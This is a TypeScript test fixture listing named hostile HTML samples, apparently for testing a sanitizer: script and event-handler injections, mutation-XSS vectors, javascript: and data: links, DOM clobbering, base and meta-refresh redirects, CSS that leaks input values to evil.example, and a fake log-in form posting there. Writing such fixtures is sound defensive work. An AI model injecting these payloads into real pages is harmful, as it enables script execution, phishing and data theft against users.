/** Texts that try to run something, to look like something else, or to change the page around them. */
export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<p>Hello</p><script>window.hit = 1</script>'],
  ['a script in capitals and halves', '<ScRiPt/x>window.hit=1</sCrIpT ><p>rest</p>'],
  ['an image with onerror', '<p>x<img src=x onerror="window.hit=1"></p>'],
  ['an svg that loads', '<svg onload="window.hit=1"><a xlink:href="javascript:window.hit=1"><text>click</text></a></svg><p>after</p>'],
  ['mathml mutation', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">'],
  ['mutation by form and math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>'],
  ['nested svg style mutation', '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">'],
  ['a javascript link', '<a href="javascript:window.hit=1">go</a>'],
  [
    'a javascript link in pieces',
    '<a href="&#106;ava&#x0A;script&colon;window.hit=1">go</a><a href=" \u0001javascript:window.hit=1">go</a>',
  ],
  ['a data link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">go</a>'],
  ['another host without a scheme', '<a href="//evil.example/x">go</a><a href="/\\evil.example">go</a>'],
  ['srcdoc', '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><p>x</p>'],
  [
    'clobbered names',
    '<a id="hit" href="https://evil.example">x</a><form id="location" name="cookie"><input name="attributes"></form><img name="getElementById"><p id="root" class="btn btn--primary">x</p>',
  ],
  ['base', '<base href="https://evil.example/"><a href="/help">help</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>x</p>'],
  [
    'css that reports',
    '<style>@import "https://evil.example/x.css"; input[value^="a"]{background:url(https://evil.example/a)}</style><p style="background:url(https://evil.example/b)">x</p><link rel="stylesheet" href="https://evil.example/c.css">',
  ],
  ['a template', '<template><img src=x onerror="window.hit=1"><script>window.hit=1</script></template><p>x</p>'],
  [
    'a form that looks like the log-in',
    '<form action="https://evil.example"><input name="password" autofocus onfocus="window.hit=1"><button formaction="javascript:window.hit=1">Log in</button></form>',
  ],
  [
    'events everywhere',
    '<p onclick="window.hit=1" onmouseover="window.hit=1" onanimationstart="window.hit=1">x</p><details open ontoggle="window.hit=1">x</details><body onload="window.hit=1">',
  ],
  ['an object and an embed', '<object data="data:text/html,<script>parent.hit=1</script>"></object><embed src="javascript:window.hit=1">'],
  [
    'a cover over the page',
    '<div style="position:fixed;inset:0;z-index:99999">pay here</div><dialog open>pay</dialog><div popover id="p">x</div>',
  ],
  ['a tag that never ends', '<p>fine</p><img src="x" onerror="window.hit=1" title="'],
  [
    'a picture from elsewhere',
    '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x"><picture><source srcset="https://evil.example/s"></picture><p>x</p>',
  ],
  ['custom elements and slots', '<x-y is="script" onclick="window.hit=1">x</x-y><p is="x-y" slot="s" part="q">x</p>'],
]
